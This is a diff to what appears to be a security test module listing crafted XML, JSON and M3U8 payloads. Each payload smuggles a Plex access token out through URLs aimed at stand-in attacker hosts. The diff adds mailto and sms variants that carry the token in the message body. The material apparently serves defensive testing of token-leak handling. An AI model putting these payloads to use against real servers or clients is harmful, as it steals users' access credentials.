@@ -50,6 +50,8 @@ ATTACKS: dict[str, tuple[str, str]] = {
     "long-xml-attribute": (XML, f'<V thumb="{EVIL}/{PAD}?X-Plex-Token={TOK}"/>'),
     "escaped-quote-in-json": (JSON, f'{{"thumb": "{EVIL}/\\"?X-Plex-Token={TOK}"}}'),
     "space-lt-in-json": (JSON, f'{{"thumb": "{EVIL}/ <?X-Plex-Token={TOK}"}}'),
+    "mailto-in-json": (JSON, f'{{"contact": "mailto:me@attacker.example?body={TOK}"}}'),  # one tap sends it
+    "sms-in-xml": (XML, f'<V link="sms:+15550100?body={TOK}"/>'),
     "long-json-string": (JSON, f'{{"thumb": "{EVIL}/{PAD}?X-Plex-Token={TOK}"}}'),
     "space-in-playlist-line": (M3U8, f"#EXTM3U\n#EXTINF:8,\n{EVIL}/ s.ts?X-Plex-Token={TOK}\n"),
     "space-in-ext-x-key": (M3U8, f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{EVIL}/ k?X-Plex-Token={TOK}"\n'),
